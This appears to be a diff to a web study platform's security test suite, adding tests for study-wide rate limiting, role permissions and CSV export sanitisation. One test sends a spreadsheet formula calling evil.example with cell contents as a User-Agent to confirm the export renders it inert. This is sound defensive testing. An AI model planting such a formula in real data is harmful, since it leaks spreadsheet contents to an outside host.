@@ -142,6 +142,8 @@ def target(request, tmp_path_factory, stimset) -> Iterator[Target]:
         # Repeats allowed (two sessions per person); the tests finish sessions at machine speed.
         create_study(parse_config({**SECURE, "id": "again", "min_seconds_per_answer": 0,
                                    "admission": {**generous, "sessions_per_person": 2}}), stimset)
+        # Two new sessions a minute for the whole study, however many addresses they come from.
+        create_study(parse_config({**SECURE, "id": "crowd", "admission": {"new_sessions_per_minute": 2}}), stimset)
         for name, role in (("ada", "owner"), ("ana", "analyst"), ("vic", "viewer")):
             create_admin(name, PASSWORD)
             db.session.flush()
@@ -223,6 +225,13 @@ def test_the_anonymous_link_is_off_and_new_sessions_are_rate_limited_per_address
     owner = logged_in(target, "ada")
     arrivals = owner.get("/admin/study/tight/arrivals?format=json").json()["refused"]
     assert sorted(a["reason"] for a in arrivals) == ["anonymous_off", "per_address"]  # repeats within 10 s: one row
+
+
+def test_the_whole_study_admits_a_limited_number_of_new_sessions_a_minute(target):
+    statuses = [consent(Browser(target.base), f"PROLIFIC_PID=crowd{k}", study="crowd").status for k in range(3)]
+    assert statuses == [303, 303, 429]
+    refused = consent(Browser(target.base), "PROLIFIC_PID=crowd9", study="crowd")
+    assert refused.status == 429 and "Many people are starting this study right now" in refused.text
 
 
 def _as_datetime(value):
@@ -361,8 +370,22 @@ def test_roles_limit_what_each_researcher_may_do_and_forwarded_host_is_ignored(t
     assert owner.get("/admin/study/tight/export/payments.csv").status == 200
     token = CSRF.search(analyst.get("/admin/study/tight").text).group(1)
     assert analyst.form("/admin/study/tight/state", {"csrf_token": token, "action": "close"}).status == 403
+    assert analyst.form("/admin/study/tight/delete-participant", {"csrf_token": token, "panel_id": "inv0"}).status == 403
+    assert target.scalar("SELECT count(*) FROM audit_event WHERE action = 'delete_participant'") == 0
     assert viewer.get("/admin/study/test-study").status == 403  # no role on it at all
     assert "test-study" not in viewer.get("/admin/").text
+
+
+# --- 6. exports --------------------------------------------------------------------------------
+
+def test_a_formula_in_the_user_agent_is_inert_in_participants_csv(target):
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    browser = Browser(target.base)
+    entry = browser.get("/study/test-study?PROLIFIC_PID=hank008")
+    assert browser.form("/study/test-study/consent", {**fields_of(entry), "choice": "agree"}, **{"User-Agent": attack}).status == 303
+    exported = logged_in(target, "ada").get("/admin/study/test-study/export/participants.csv")
+    assert exported.status == 200
+    assert "'" + attack.replace('"', '""') in exported.text and ',"=HYPERLINK' not in exported.text
 
 
 # --- 8. malformed input, HEAD, headers --------------------------------------------------------
